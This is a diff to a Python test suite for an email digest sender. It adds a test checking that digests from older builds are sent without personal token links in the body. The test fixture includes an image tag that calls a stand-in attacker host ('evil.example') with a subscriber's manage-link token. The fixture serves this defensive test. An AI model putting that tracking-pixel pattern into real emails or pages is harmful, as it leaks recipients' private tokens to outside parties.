@@ -105,12 +105,12 @@ def test_full_send(tmp_path: Path, store: Store, server: SmtpServer, clock) -> N
         url = msg["List-Unsubscribe"].strip("<>")
         prefix = f"{SITE_URL}/unsubscribe/"
         assert url.startswith(prefix)
-        assert tokens.read(UNSUBSCRIBE, url[len(prefix) :]) == subscriber.id  # ITS recipient
+        assert tokens.read(UNSUBSCRIBE, url[len(prefix) :]).names(subscriber)  # ITS recipient
         html = msg.get_body(("html",)).get_content()
         text = msg.get_body(("plain",)).get_content()
         assert f'href="{url}"' in html and url in text
         manage = text.split("Preferences: ")[1].split()[0]
-        assert tokens.read(MANAGE, manage.rsplit("/", 1)[1]) == subscriber.id
+        assert tokens.read(MANAGE, manage.rsplit("/", 1)[1]).names(subscriber)
         assert f"Hello {subscriber.name}," in text
     rows = store.deliveries(digest_id)
     assert {r.status for r in rows} == {"sent"} and len(rows) == 7
@@ -447,9 +447,36 @@ def test_a_digest_without_an_unsubscribe_link_is_refused(
     config = _config(tmp_path, server)
     add_people(store, 1)
     digest_id = make_digest(store, tmp_path, html="<p>No way out</p>")
-    with pytest.raises(SendError, match="%%UNSUBSCRIBE_URL%%"):
+    with pytest.raises(SendError, match="unsubscribe_url"):
         send_digest(config, store, digest_id)
     assert store.deliveries(digest_id) == [] and server.handler.total == 0
+
+
+def test_a_digest_built_by_an_older_version_goes_out_without_personal_body_links(
+    tmp_path: Path, store: Store, server: SmtpServer
+) -> None:
+    """Older builds marked personal links with fixed strings a feed could imitate: such a
+    digest (say, one in flight during the upgrade) is sent with the site's token-less pages
+    in its body; only the List-Unsubscribe header, which no feed reaches, is personal."""
+    config = _config(tmp_path, server)
+    [sid] = add_people(store, 1)
+    html = (
+        '<p>Story <img src="https://evil.example/p.gif?m=%%MANAGE_URL%%"> %%RECIPIENT%%</p>'
+        '<p><a href="%%UNSUBSCRIBE_URL%%">Unsubscribe</a> <a href="%%MANAGE_URL%%">Manage</a></p>'
+    )
+    text = "Story %%MANAGE_URL%%\nUnsubscribe: %%UNSUBSCRIBE_URL%%\n"
+    digest_id = make_digest(store, tmp_path, html=html, text=text)
+    (Path(store.get_digest(digest_id).path) / "digest.json").unlink()  # an old build
+    assert send_digest(config, store, digest_id).sent == 1
+    [raw] = server.messages["reader0@example.com"]
+    msg = BytesParser(policy=policy.default).parsebytes(raw)
+    body = msg.get_body(("html",)).get_content() + msg.get_body(("plain",)).get_content()
+    assert "/manage/" not in body and "/unsubscribe/" not in body and "reader0" not in body
+    assert f"{SITE_URL}/unsubscribe" in body and "%%" not in body
+    header = msg["List-Unsubscribe"].strip("<>")
+    assert header.startswith(f"{SITE_URL}/unsubscribe/")
+    link = Tokens.from_config(config).read(UNSUBSCRIBE, header.rsplit("/", 1)[1])
+    assert link.names(store.get_subscriber(sid))
 
 
 def test_no_server_leaves_every_row_pending(tmp_path: Path, store: Store) -> None:
@@ -532,6 +559,7 @@ def test_an_empty_stored_subject_comes_from_the_template_and_digest_json(
             {"label": "More", "items": [{"title": "b"}, {"title": "c"}]},
         ],
     }
+    stories["placeholders"] = json.loads((folder / "digest.json").read_text())["placeholders"]
     (folder / "digest.json").write_text(json.dumps(stories), encoding="utf-8")
 
     send_digest(config, store, digest_id)
